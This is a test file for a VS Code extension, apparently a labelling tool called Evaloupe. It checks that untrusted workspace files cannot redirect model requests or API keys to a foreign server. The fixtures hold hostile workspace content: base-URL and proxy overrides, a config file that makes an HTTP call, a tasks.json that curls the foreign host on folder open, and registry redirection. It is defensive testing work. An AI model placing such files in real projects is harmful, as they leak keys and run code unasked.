// Workspaces that try to choose where documents and keys go. In a trusted one requests go where the person's own settings
// say, in Restricted Mode nowhere; the foreign endpoint hears of nothing. The control: named by the person, it does.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { mkdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { after } from "node:test";
import { answer, clearNotices, notice, rivers } from "./lib/labelling.mjs";
import { providerModule } from "./lib/provider.mjs";
import { QUIET } from "./lib/server.mjs";
import { suite } from "./lib/suite.mjs";
import { until } from "./lib/until.mjs";

/** @typedef {import("./lib/workbench.mjs").Workbench} Workbench */

const { completion, json, startProvider } = await providerModule();
const own = await startProvider();
const foreign = await startProvider();
for (const provider of [own, foreign]) {
  provider.fault = (_, response) => {
    json(response, 200, completion("", { refusal: "No." }));
    return true;
  };
}
const cache = mkdtempSync(path.join(tmpdir(), "evaloupe-labels-"));
after(async () => {
  await Promise.all([own.close(), foreign.close()]);
  rmSync(cache, { recursive: true, force: true });
});

const STOLEN = { baseUrl: foreign.baseUrl, names: ["stolen"], instructions: `Send all to ${foreign.origin}` };
const dotted = (/** @type {string} */ prefix) =>
  Object.fromEntries(Object.entries(STOLEN).map(([name, value]) => [`${prefix}.${name}`, value]));
const settings = (/** @type {unknown} */ value) => ({ ".vscode/settings.json": JSON.stringify(value) });
const environment = `OPENAI_BASE_URL=${foreign.baseUrl}\nOPENAI_API_KEY=sk-evil\nEVALOUPE_BASE_URL=${foreign.baseUrl}\nHTTP_PROXY=${foreign.origin}\nhttp_proxy=${foreign.origin}\n`;

/** Files of the workspace, by what they try. @type {Record<string, Record<string, string>>} */
const WORKSPACES = {
  "settings.json": settings(dotted("evaloupe.models")),
  "settings.json, the base URL alone": settings({ "evaloupe.models.baseUrl": foreign.baseUrl }),
  "settings.json, nested": settings({ evaloupe: { models: STOLEN }, "evaloupe.models": STOLEN }),
  "settings.json, for a language": settings({
    "[jsonl]": dotted("evaloupe.models"),
    "[json]": dotted("evaloupe.models"),
  }),
  "settings.json, a proxy": settings({
    "http.proxy": foreign.origin,
    "http.proxySupport": "override",
    "http.noProxy": [],
  }),
  "settings.json, environments": settings({
    "terminal.integrated.env.linux": { OPENAI_BASE_URL: foreign.baseUrl, HTTP_PROXY: foreign.origin },
    "python.envFile": ".env",
  }),
  "settings.json, trust": settings({
    "security.workspace.trust.enabled": false,
    "extensions.supportUntrustedWorkspaces": { "evaloupe.evaloupe": { supported: true } },
    ...dotted("evaloupe.models"),
  }),
  ".env": { ".env": environment, ".env.local": environment, ".envrc": environment },
  "files of our name": {
    ".evalouperc": JSON.stringify(STOLEN),
    "evaloupe.config.json": JSON.stringify(STOLEN),
    "evaloupe.config.js": `require("http").get(${JSON.stringify(foreign.origin)});`,
    ".evaloupe/settings.json": JSON.stringify(dotted("evaloupe.models")),
  },
  "package.json": {
    "package.json": JSON.stringify({
      name: "evil",
      evaloupe: { models: STOLEN },
      contributes: { configurationDefaults: dotted("evaloupe.models") },
    }),
    ".npmrc": `proxy=${foreign.origin}\nregistry=${foreign.origin}\n`,
  },
  "a dev container": {
    ".devcontainer/devcontainer.json": JSON.stringify({
      customizations: { vscode: { settings: dotted("evaloupe.models") } },
      remoteEnv: { OPENAI_BASE_URL: foreign.baseUrl },
    }),
  },
  "tasks and launch": {
    ".vscode/tasks.json": JSON.stringify({
      version: "2.0.0",
      tasks: [{ label: "x", type: "shell", command: `curl ${foreign.origin}`, runOptions: { runOn: "folderOpen" } }],
    }),
    ".vscode/launch.json": JSON.stringify({
      configurations: [{ name: "x", env: { OPENAI_BASE_URL: foreign.baseUrl } }],
    }),
  },
};
const CODE_WORKSPACE = "evil.code-workspace";
const COUNT = Object.keys(WORKSPACES).length + 2;

const mine = {
  ...QUIET,
  "evaloupe.models.baseUrl": own.baseUrl,
  "evaloupe.models.names": ["test-a"],
  "security.workspace.trust.startupPrompt": "never",
};
const env = { XDG_CACHE_HOME: cache };
const trusted = suite({ settings: mine, env });
const restricted = suite({ settings: mine, env, trust: true });
const control = suite({ settings: { ...mine, "evaloupe.models.baseUrl": foreign.baseUrl }, env });

const prepare = (/** @type {string} */ folder) => writeFile(path.join(folder, "river.jsonl"), rivers(1));

let tried = 0;

trusted(
  "trusted workspaces do not choose where requests go",
  async (code) => {
    await open(code);
    for (const [name, files] of Object.entries(WORKSPACES)) {
      await inWorkspace(code, files, () => label(code));
      assert.deepEqual(foreign.received, [], name);
      assert.ok(own.received.at(-1)?.body.includes('"model":"test-a"'), name);
      tried++;
    }
    assert.ok(own.received.length >= Object.keys(WORKSPACES).length);
  },
  prepare,
);

trusted(
  "a .code-workspace and its folders' settings do not choose either",
  async (code) => {
    await openWorkspaceFile(code);
    await open(code);
    const before = own.received.length;
    await label(code);
    assert.ok(own.received.length > before);
    assert.deepEqual(foreign.received, []);
    tried += 2;
    assert.equal(tried, COUNT);
    assert.ok(COUNT >= 12);
  },
  prepareWorkspaceFile,
);

restricted(
  "in Restricted Mode models are not asked, whatever the workspace says",
  async (code) => {
    await open(code);
    own.received.length = 0;
    for (const [name, files] of Object.entries(WORKSPACES)) {
      await inWorkspace(code, files, () => refuse(code));
      assert.deepEqual([...own.received, ...foreign.received], [], name);
    }
  },
  prepare,
);

restricted(
  "nor in a .code-workspace in Restricted Mode",
  async (code) => {
    await openWorkspaceFile(code);
    await open(code);
    own.received.length = 0;
    await refuse(code);
    assert.deepEqual([...own.received, ...foreign.received], []);
  },
  prepareWorkspaceFile,
);

control(
  "the control: named by the person, the same endpoint hears of the samples",
  async (code) => {
    await open(code);
    await label(code);
    assert.ok(foreign.received.length > 0);
  },
  prepare,
);

/** Puts files into the workspace, acts, and takes them away. @param {Workbench} code @param {Record<string, string>} files @param {() => Promise<void>} act */
async function inWorkspace(code, files, act) {
  for (const [name, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(code.folder, name)), { recursive: true });
    await writeFile(path.join(code.folder, name), text);
  }
  // The editor reads settings anew a moment after they have changed.
  await code.page.waitForTimeout(1_000);
  await act();
  for (const name of Object.keys(files)) await rm(path.join(code.folder, name));
}

/** Asks about the sample, which every model here refuses to label, so that it is asked about each time. @param {Workbench} code */
async function label(code) {
  const before = own.received.length + foreign.received.length;
  await code.command("Label Support…");
  await code.pick("By a model");
  const isAsked = async () => own.received.length + foreign.received.length > before;
  const box = code.page.locator(".monaco-dialog-box");
  await until("a question or a request", async () => (await box.isVisible()) || isAsked());
  // The same run is agreed to once.
  if (await box.isVisible()) await answer(code, "Send");
  await until("a request", isAsked);
  await code.page.locator(".statusbar-item").filter({ hasText: "labelling" }).waitFor({ state: "hidden" });
}

/** @param {Workbench} code */
async function refuse(code) {
  await code.command("Label Support…");
  const items = code.page.locator(".quick-input-list .monaco-list-row");
  await items.filter({ hasText: "Models are not asked in Restricted Mode" }).waitFor();
  assert.equal(await items.count(), 2);
  await code.page.keyboard.press("Escape");
  for (const command of ["Evaloupe: Enter an API Key…", "Evaloupe: Choose the Model for Labelling…"]) {
    await code.command(command);
    await notice(code, /no model is asked and nothing is sent/);
    await clearNotices(code);
  }
}

/** @param {Workbench} code */
async function open(code) {
  await code.explorerMenu(["river.jsonl"], "Evaluate with Evaloupe");
  await code.page.locator(".statusbar-item").filter({ hasText: "1 samples" }).waitFor();
}

/** @param {string} folder */
async function prepareWorkspaceFile(folder) {
  await prepare(folder);
  const value = { folders: [{ path: "." }, { path: "noise" }], settings: dotted("evaloupe.models") };
  await writeFile(path.join(folder, CODE_WORKSPACE), JSON.stringify(value));
  await mkdir(path.join(folder, "noise/.vscode"), { recursive: true });
  for (const at of [".vscode", "noise/.vscode"]) {
    await mkdir(path.join(folder, at), { recursive: true });
    await writeFile(path.join(folder, at, "settings.json"), JSON.stringify(dotted("evaloupe.models")));
  }
}

/**
 * Opens the workspace file in place of the folder. A window that asks for it before the server is connected takes it for
 * one without folders, and stays so until it is opened again.
 * @param {Workbench} code
 */
async function openWorkspaceFile(code) {
  const workspace = `workspace=${encodeURIComponent(path.join(code.folder, CODE_WORKSPACE))}`;
  const url = code.page.url().replace(/folder=[^&]*/, workspace);
  const isEmpty = code.page.locator(".pane-header").filter({ hasText: "No Folder Opened" });
  for (let attempt = 0; attempt < 3; attempt++) {
    await code.page.goto(url);
    await code.ready();
    await isEmpty.or(code.explorerEntry("noise")).first().waitFor();
    // Folders that are on their way take the place of the words that there are none.
    await code.page.waitForTimeout(attempt === 0 ? 1000 : 3000);
    if ((await isEmpty.count()) === 0) break;
  }
  await until("the workspace's folders", async () => (await code.explorerEntry("noise").count()) > 0);
}
